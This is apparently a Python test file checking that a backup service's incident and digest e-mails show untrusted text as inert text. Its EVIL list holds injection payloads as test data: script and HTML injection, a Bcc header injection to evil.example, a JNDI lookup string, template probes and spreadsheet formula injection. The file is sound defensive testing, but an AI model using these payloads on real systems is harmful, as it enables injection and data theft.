"""Whatever strangers wrote, and wherever it stands, a mail shows it as text and as nothing else."""

import csv
import io
from dataclasses import fields, replace

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from tests.builders import SUB, VAULT
from tests.incidents import bad, hour
from tests.mails import about, mail
from tests.reading import Page
from vmbackup_core.app.telling.rendering import (
    is_safe_link,
    render_alive_digest,
    render_incident,
    render_owner_digest,
)
from vmbackup_core.domain.ids import VmId
from vmbackup_core.domain.telling.digests import (
    Head,
    Today,
    Waiting,
    write_alive_digest,
    write_owner_digest,
)
from vmbackup_core.domain.telling.incidents import Incident
from vmbackup_core.domain.telling.letters import Letter
from vmbackup_core.domain.telling.mail_content import IncidentMail, Link
from vmbackup_core.domain.telling.mail_lines import Line
from vmbackup_core.domain.telling.root_causes import RootCause
from vmbackup_core.domain.telling.routing import Refused, RoutingChange
from vmbackup_core.domain.telling.tellings import Telling
from vmbackup_core.domain.telling.troubles import Subject, Words
from vmbackup_core.domain.verdicts import Count

EVIL = (
    "<script>alert(1)</script>",
    '"><img src=https://evil.example/x onerror=alert(1)>',
    "'><a href='javascript:alert(1)'>go</a>",
    "</td></tr></table></body></html>",
    "<!--[if mso]><v:rect>-->",
    "--></style><style>*{display:none}",
    "web\r\nBcc: thief@evil.example\r\n\r\n<b>",
    "a\0b\x1b[2Jc",
    "\u202egnp.exe\u2066\u200b\u200d",
    "{{ 7 * 7 }}{% for x in y %}{# z #}{{ sheet.__class__.__mro__ }}",
    "${jndi:ldap://evil.example}",
    "javascript:alert(1)",
    "=HYPERLINK(\"https://evil.example\",\"x\")",
    "\uff1dcmd|'/c calc'!A1",
    "\t=1+1",
    "&lt;b&gt;&#60;i&#62;",
    "x" * 10_000,
    "<" * 10_000,
    "\u0645\u0631\u062d\u0628\u0627",
    "",
)  # fmt: skip
hostile = st.sampled_from(EVIL) | st.text(max_size=40) | st.text("<>\"'&{}%#=\r\n\t\0 ax/:;-")
LONGEST_MAIL = 400_000  # Bytes; the service takes 10 MB, and a mail of this size was attacked.
# What the template itself is made of: a mail with other elements was made by somebody else.
ELEMENTS = {
    "html", "head", "meta", "title", "style", "body", "div", "table", "tr", "td", "span", "a", "br",
}  # fmt: skip
ATTRIBUTES = {
    "lang", "dir", "xmlns", "xmlns:o", "charset", "name", "content", "class", "style", "role",
    "width", "cellpadding", "cellspacing", "border", "bgcolor", "align", "valign", "href",
}  # fmt: skip


def is_harmless(letter: Letter) -> bool:
    """Tell whether a mail is made of our elements only, leads nowhere else and has one subject."""
    page = Page.of(letter.html)
    assert set(page.tags) <= ELEMENTS
    assert {name for name, _ in page.attributes} <= ATTRIBUTES
    assert page.open == []
    assert all(is_safe_link(link) for link in page.links)
    assert all(one.startswith("[if mso]") for one in page.comments)
    assert len(page.comments) == 3
    assert letter.html.count("<style>") == letter.html.count("</style>") == 1
    bodies = letter.subject + letter.plain + letter.html
    assert bodies.replace("\n", "").isprintable()
    assert "\n" not in letter.subject
    assert len(letter.subject) <= 150
    assert len(letter.html.encode()) + len(letter.plain.encode()) <= LONGEST_MAIL
    return True


@pytest.mark.parametrize("telling", Telling)
@settings(deadline=None)
@given(text=hostile)
@example(text=EVIL[0])
@example(text=EVIL[9])
@example(text=EVIL[14])
def test_hostile_words_in_every_field_of_an_incident_stay_words(telling, text):
    words = Words(text, 0, text, text, text, text)
    seen = replace(
        bad(0, RootCause.UNKNOWN),
        subject=Subject.of_vm(VmId(SUB, text, text), text),
        words=words,
        location=text,
        vault=f"{VAULT}/{text}",
    )
    alone = about(seen, policy=text)
    beside = about(replace(bad(0), words=words), policy=text)
    ours = about(replace(seen, cause=RootCause.RESTORE_FAILED), policy=text)

    for told in (mail(telling, alone), mail(telling, alone, beside), mail(telling, ours)):
        (letter,) = render_incident(told, key="k", about=text, now=hour(2))
        assert is_harmless(letter)


def hostile_line(text: str) -> Line:
    """Return a line with a text in each field that holds one."""
    honest = mail(Telling.OPENED, about(bad(0))).lines[0]
    return replace(honest, name=text, id=text, cause=text, policy=text, code=text, job=text)


@settings(deadline=None)
@given(text=hostile)
@example(text=EVIL[0])
@example(text=EVIL[15])
def test_hostile_words_in_every_value_of_a_mail_stay_words(text):
    honest = mail(Telling.OPENED, about(bad(0)))
    told = replace(
        honest,
        subject=text, headline=text, lines=(hostile_line(text),) * 12, meaning=(text, text),
        cause=text, fix=text, code=text, azure=text, seen=text, table=text,
        links=(Link(text, text), Link(text, f"https://portal.azure.com/{text}")),
        told=(text, text),
    )  # fmt: skip

    (letter,) = render_incident(told, key="k", about=text, now=hour(2))

    assert is_harmless(letter)


def test_the_test_above_leaves_out_no_field_of_a_mail():
    by_us = {"telling", "number", "remedy"}
    tried = {
        "subject", "headline", "lines", "meaning", "cause", "fix", "code", "azure", "seen", "links",
        "told", "table",
    }  # fmt: skip

    assert {one.name for one in fields(IncidentMail)} == by_us | tried
    of_a_line = {"name", "id", "cause", "policy", "code", "job"}
    assert {one.name for one in fields(Line) if one.type in (str, "str")} == of_a_line


@settings(deadline=None)
@given(text=hostile)
@example(text=EVIL[1])
@example(text=EVIL[14])
def test_hostile_words_in_every_field_of_a_digest_stay_words(text):
    one = about(replace(bad(0), subject=Subject.of_vm(VmId(SUB, text, text), text)), policy=text)
    count = Count(1, 1, 1, {text: 1}, {text: 1})
    today = Today(
        count,
        None,
        (text,) * 30,
        (Head(text, 1, text),),
        (Waiting(text, 1),) * 30,
        (RoutingChange(text, (text,) * 9, (text,)),) * 30,
        (Refused(text, text),) * 30,
        1,
        (text,) * 30,
    )
    alive = write_alive_digest(1, today, [one], hour(-24), hour(2))
    owner = write_owner_digest(text, 1, [one], hour(-24), hour(2))

    letters = [
        *render_alive_digest(alive, key="k", to=("ops@example.com",)),
        *render_owner_digest(owner, key="k"),
    ]

    assert all(map(is_harmless, letters))


@settings(deadline=None)
@given(text=hostile)
def test_what_a_stranger_wrote_is_shown_and_not_run(text):
    seen = replace(bad(0), subject=Subject.of_vm(VmId(SUB, "rg", "x"), f"{text[:20]}{{{{7*7}}}}"))

    (letter,) = render_incident(
        mail(Telling.OPENED, about(seen)), key="k", about="incident-1", now=hour(2)
    )

    assert "{{7*7}}" in letter.plain
    assert "{{7*7}}" in Page.of(letter.html).text


@settings(deadline=None)
@given(names=st.lists(hostile, min_size=10, max_size=14))
def test_a_table_of_hostile_names_runs_nothing_and_keeps_its_rows(names):
    many = [
        about(replace(bad(0), subject=Subject.of_vm(VmId(SUB, "rg", str(number)), name)))
        for number, name in enumerate(names)
    ]

    (letter,) = render_incident(mail(Telling.OPENED, *many), key="k", about="group-1", now=hour(2))

    text = letter.attachments[0].content.decode("utf-8-sig")
    header, *rows = csv.reader(io.StringIO(text, newline=""))
    assert len(rows) == len(names)
    assert {len(row) for row in rows} == {len(header)}
    assert not [cell for row in rows for cell in row if cell.startswith(FORMULAS)]


# What a spreadsheet takes for a formula, full-width signs (East Asian settings) among it.
FORMULAS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def test_an_incident_has_no_text_that_the_test_above_does_not_try():
    assert {one.name for one in fields(Incident) if one.type in (str, "str")} == {
        "id", "vault", "location", "group",
    }  # fmt: skip
